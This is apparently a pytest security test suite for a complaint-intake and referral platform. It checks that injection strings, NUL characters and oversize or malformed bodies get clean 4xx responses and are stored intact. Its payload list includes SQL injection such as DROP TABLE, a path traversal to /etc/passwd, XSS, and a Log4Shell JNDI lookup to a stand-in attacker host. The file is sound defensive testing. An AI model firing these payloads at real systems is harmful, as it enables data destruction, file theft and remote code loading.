"""Injection, NUL characters, oversize and malformed input: a clear 4xx, never a 5xx, nothing lost.

Attack strings are data: stored and returned verbatim when they are valid text, refused with a
coded error when they cannot be stored.
"""

from __future__ import annotations

import asyncio
import uuid
from collections.abc import Iterator

import asyncpg
import httpx
import pytest

pytestmark = [pytest.mark.e2e, pytest.mark.integration, pytest.mark.security]

VILLAGE = "32.15.07.2001"
ATTACKS = [
    "'; DROP TABLE complaints; --",
    "' OR '1'='1",
    "1; SELECT pg_sleep(5)",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "${jndi:ldap://attacker/x}",
    "{{7*7}}",
    "\u202egnp.exe",
    "Ibu 👩‍👧 Rina — Δ",
]


def body(description: str) -> dict:
    return {
        "village_code": VILLAGE,
        "needs": ["ADMINDUK"],
        "description": description,
        "channel": "walk_in",
        "recorded_at": "2025-06-26T09:15:00+07:00",
        "resident": {"nik": "3215074107800005", "name": "Rina", "address": description[:100]},
    }


def post(platform, payload, **kwargs) -> httpx.Response:  # type: ignore[no-untyped-def]
    return httpx.post(
        f"{platform.urls['intake']}/v1/complaints",
        headers={
            **platform.operator(VILLAGE),
            "Idempotency-Key": str(uuid.uuid4()),
            **kwargs.pop("headers", {}),
        },
        json=payload,
        **kwargs,
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_strings_are_stored_and_returned_as_plain_text(platform, attack: str) -> None:  # type: ignore[no-untyped-def]
    created = post(platform, body(f"Pengaduan: {attack}"))
    assert created.status_code == 201, created.text
    read = httpx.get(
        f"{platform.urls['intake']}/v1/complaints/{created.json()['complaint_id']}",
        headers=platform.operator(VILLAGE),
    )
    assert read.status_code == 200
    assert read.json()["description"] == f"Pengaduan: {attack}"


def urls_with(platform, attack: str) -> Iterator[tuple[str, dict]]:  # type: ignore[no-untyped-def]
    yield f"{platform.urls['intake']}/v1/track/{attack}", {}
    yield f"{platform.urls['intake']}/v1/complaints/{attack}", platform.operator(VILLAGE)
    yield f"{platform.urls['intake']}/open311/v2/requests/{attack}.json", {}
    yield f"{platform.urls['referral']}/v1/cases/{attack}", platform.district()
    yield (
        f"{platform.urls['referral']}/v1/rules/{attack}/history",
        {"Authorization": f"Bearer {platform.creds['admin']}"},
    )
    yield f"{platform.urls['agency-gateway']}/v1/referrals/{attack}", platform.agency("DINSOS")
    yield f"{platform.urls['monitoring']}/v1/puskesos/{attack}", {}
    yield f"{platform.urls['monitoring']}/puskesos/{attack}", {}


@pytest.mark.parametrize("attack", ATTACKS[:6])
def test_attack_strings_in_paths_and_queries_get_a_4xx(platform, attack: str) -> None:  # type: ignore[no-untyped-def]
    for url, headers in urls_with(platform, attack):
        response = httpx.get(url, headers=headers, params={"period": attack, "status": attack})
        assert 400 <= response.status_code < 500, (url, response.status_code, response.text)
    listing = httpx.get(
        f"{platform.urls['agency-gateway']}/v1/referrals",
        headers=platform.agency("DINSOS"),
        params={"cursor": attack},
    )
    assert listing.status_code == 400 and listing.json()["error"]["code"] == "invalid_cursor"


def test_nul_characters_are_refused_everywhere_with_a_coded_error(platform) -> None:  # type: ignore[no-untyped-def]
    answers = [
        post(platform, body("a\x00b")),
        httpx.get(f"{platform.urls['intake']}/v1/track/SLRT%00"),
        httpx.get(f"{platform.urls['monitoring']}/v1/rankings", params={"regency": "32.15\x00"}),
        httpx.post(
            f"{platform.urls['intake']}/open311/v2/requests.json",
            content=b"api_key=x&service_code=ADMINDUK&description=a%00b",
            headers={"Content-Type": "application/x-www-form-urlencoded"},
        ),
        httpx.post(
            f"{platform.urls['agency-gateway']}/v1/referrals/{uuid.uuid4()}/reject",
            json={"reason": "x\x00"},
            headers={**platform.agency("DINSOS"), "Idempotency-Key": str(uuid.uuid4())},
        ),
    ]
    for answer in answers:
        assert answer.status_code == 400, answer.text
        assert answer.json()["error"]["code"] == "invalid_characters"


def test_oversize_and_malformed_bodies_are_refused_before_any_work(platform, test_env) -> None:  # type: ignore[no-untyped-def]
    before = asyncio.run(complaints_in(test_env, VILLAGE))

    def chunked() -> Iterator[bytes]:
        yield b'{"village_code": "'
        for _ in range(200):
            yield b"x" * 1024
        yield b'"}'

    refused = [
        post(platform, None, content=chunked(), headers={"Content-Type": "application/json"}),
        post(platform, body("x" * 70_000)),
        post(
            platform,
            None,
            content=b"[" * 20_000 + b"]" * 20_000,
            headers={"Content-Type": "application/json"},
        ),
        post(
            platform,
            None,
            content=b'{"village_code": ',
            headers={"Content-Type": "application/json"},
        ),
        post(
            platform,
            None,
            content=b"\xff\xfe not utf-8",
            headers={"Content-Type": "application/json"},
        ),
    ]
    assert [r.status_code for r in refused] == [413, 413, 400, 400, 400], [
        (r.status_code, r.text[:100]) for r in refused
    ]
    # Headers past the HTTP server's limit: a 4xx, or the connection closed at protocol level.
    try:
        huge_header = httpx.get(
            f"{platform.urls['intake']}/v1/track/SLRT-AAAA-AAAA",
            headers={"X-Padding": "y" * 200_000},
        )
        assert 400 <= huge_header.status_code < 500
    except (httpx.ReadError, httpx.RemoteProtocolError):
        pass
    assert httpx.get(f"{platform.urls['intake']}/healthz").status_code == 200
    assert asyncio.run(complaints_in(test_env, VILLAGE)) == before


async def complaints_in(test_env, village: str) -> int:  # type: ignore[no-untyped-def]
    conn = await asyncpg.connect(test_env.dsns["intake"], server_settings={"search_path": "intake"})
    try:
        return int(
            await conn.fetchval("SELECT count(*) FROM complaints WHERE village_code = $1", village)
        )
    finally:
        await conn.close()
